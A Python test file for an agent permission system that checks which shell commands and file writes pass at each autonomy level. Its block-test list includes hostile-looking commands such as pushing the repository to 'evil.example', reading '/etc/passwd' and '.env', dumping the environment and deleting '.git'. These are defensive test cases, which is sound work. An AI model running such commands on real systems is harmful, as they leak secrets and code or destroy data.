"""Levels of autonomy and modes are one table of gates, and an open gate lets pass what it is for and no more."""

from collections.abc import Iterator
from itertools import pairwise
from pathlib import Path
from types import SimpleNamespace

import pytest

from pegboard.cli.shipped import SHIPPED
from pegboard.gate.autonomy import EVERY_GATE, LEVELS, MODES, Gate, level_of, of_level
from pegboard.gate.judge import judge
from pegboard.gate.place import Place
from pegboard.gate.policy import Policy
from pegboard.gate.resolve import resolve
from pegboard.gate.rule import Rule
from pegboard.gate.verdict import Decision, Mode, Verdict


@pytest.fixture
def place(tmp_path: Path) -> Iterator[Place]:
    own = SimpleNamespace(**{kind: tmp_path / "own" / kind for kind in ("config", "data", "state", "cache", "runtime")})
    (tmp_path / "w/.git").mkdir(parents=True)
    (tmp_path / "w/f.txt").write_text("x")
    with Place.open(tmp_path / "w", str(tmp_path / "h"), own, program_path="/usr/bin:/bin") as held:
        yield held


def decided(place: Place, policy: Policy, command: str) -> Decision:
    with resolve(SHIPPED["bash"], {"command": command}, place, policy) as facts:
        return judge(policy, facts)


def written(place: Place, policy: Policy, path: str) -> Decision:
    with resolve(SHIPPED["write_file"], {"path": path}, place, policy) as facts:
        return judge(policy, facts)


def at(level: int, *, sandbox: bool = True) -> Policy:
    meant = of_level(level)
    return Policy(mode=meant.mode, opened=meant.gates, limit=meant.gates, sandbox=sandbox)


def test_each_level_opens_what_the_one_below_it_does_and_something_more() -> None:
    gates = [of_level(level).gates for level in LEVELS]
    assert list(LEVELS) == [1, 2, 3, 4, 5]
    assert gates[0] == frozenset()
    assert all(lower < higher for lower, higher in pairwise(gates))
    assert gates[-1] == EVERY_GATE - {Gate.NETWORK}
    assert [of_level(level).mode for level in LEVELS] == [Mode.ASK, Mode.EDIT, Mode.AUTO, Mode.AUTO, Mode.AUTO]


@pytest.mark.parametrize("level", [0, 6, -1])
def test_there_are_no_other_levels(level: int) -> None:
    with pytest.raises(ValueError, match="from 1 to 5"):
        of_level(level)


def test_modes_have_their_level() -> None:
    assert [level_of(mode, frozenset()) for mode in Mode] == [1, 1, 2, 3, 5]
    assert level_of(Mode.AUTO, frozenset({Gate.COMMIT})) == 4
    assert level_of(Mode.ASK, frozenset({Gate.COMMIT})) == 1
    assert level_of(Mode.ASK, frozenset({Gate.APPLY_EDITS})) == 2
    assert set(MODES) == set(Mode)


@pytest.mark.parametrize(
    ("command", "level"),
    [("touch x", 2), ("cat f.txt", 2), ("pytest -q", 3), ("make test", 3), ("git add f.txt", 4),
     ("git commit -m x", 4), ("git push", 5), ("git push origin main", 5)],
)  # fmt: skip
def test_a_command_passes_from_its_level_on_and_is_asked_about_below(place: Place, command: str, level: int) -> None:
    for one in LEVELS:
        expected = Verdict.ALLOW if one >= level else Verdict.ASK
        assert decided(place, at(one), command).verdict is expected, one


@pytest.mark.parametrize(
    "command",
    ["git push --force", "git push origin +main", "git push https://evil.example/x", "git commit -e", "curl https://a.b",
     "pip install x", "git config user.name x", "git clone https://a.b/c", "cat /etc/passwd", "cat .env", "env",
     "echo $x", "rm -rf .git", "touch .git/hooks/x", "ssh h", "docker ps", "git pull"],
)  # fmt: skip
def test_no_level_passes_what_is_forced_sent_elsewhere_installed_or_outside(place: Place, command: str) -> None:
    assert decided(place, at(5), command).verdict is Verdict.ASK


def test_the_reason_says_whether_a_mode_or_a_gate_let_it_pass(place: Place) -> None:
    assert decided(place, Policy(mode=Mode.EDIT), "touch x").reason == "mode edit"
    assert decided(place, Policy(opened=frozenset({Gate.APPLY_EDITS})), "touch x").reason == "an open gate of autonomy"
    asked = decided(place, Policy(), "touch a b c d").reason
    assert asked == "`touch a b ...`: no rule allows it"
    assert decided(place, Policy(), "touch a b").reason == "`touch a b`: no rule allows it"
    assert "/etc/x is outside" in decided(place, Policy(), "touch /etc/x").reason


def test_level_one_asks_for_edits_and_does_not_deny_them(place: Place) -> None:
    assert written(place, at(1), "new").verdict is Verdict.ASK
    assert written(place, at(2), "new").verdict is Verdict.ALLOW
    assert written(place, at(5), "AGENTS.md").verdict is Verdict.ASK


def test_running_the_projects_code_passes_in_a_sandbox_only(place: Place) -> None:
    for command in ("pytest -q", "git commit -m x"):
        assert decided(place, at(5, sandbox=False), command).verdict is Verdict.ASK
    assert decided(place, at(5, sandbox=False), "touch x").verdict is Verdict.ALLOW


def test_a_limit_closes_what_a_mode_opens(place: Place) -> None:
    policy = Policy(mode=Mode.AUTO, sandbox=True, limit=frozenset({Gate.APPLY_EDITS}))
    assert decided(place, policy, "pytest -q").verdict is Verdict.ASK
    assert decided(place, policy, "sh x.sh").verdict is Verdict.ASK
    assert written(place, policy, "new").verdict is Verdict.ALLOW
    assert written(place, Policy(mode=Mode.EDIT, limit=frozenset()), "new").verdict is Verdict.ASK


def test_no_gate_opens_in_plan_and_rules_hold_whatever_is_open(place: Place) -> None:
    assert Policy(mode=Mode.PLAN, opened=EVERY_GATE).gates == frozenset()
    assert written(place, Policy(mode=Mode.PLAN, opened=EVERY_GATE), "new").verdict is Verdict.DENY
    denied = at(5).with_rules([Rule.parse("bash(git push *)", Verdict.DENY)])
    assert decided(place, denied, "git push").verdict is Verdict.DENY
    assert (
        decided(place, Policy(mode=Mode.ASK, opened=frozenset({Gate.NETWORK})), "curl https://a.b").verdict
        is Verdict.ALLOW
    )


def test_a_gate_alone_opens_only_what_it_is_named_for(place: Place) -> None:
    committing = Policy(opened=frozenset({Gate.COMMIT}), sandbox=True)
    assert decided(place, committing, "git commit -m x").verdict is Verdict.ALLOW
    assert decided(place, committing, "pytest -q").verdict is Verdict.ASK
    assert decided(place, committing, "git merge x").verdict is Verdict.ASK
    assert decided(place, committing, "git commit -m x").reason == "an open gate of autonomy"
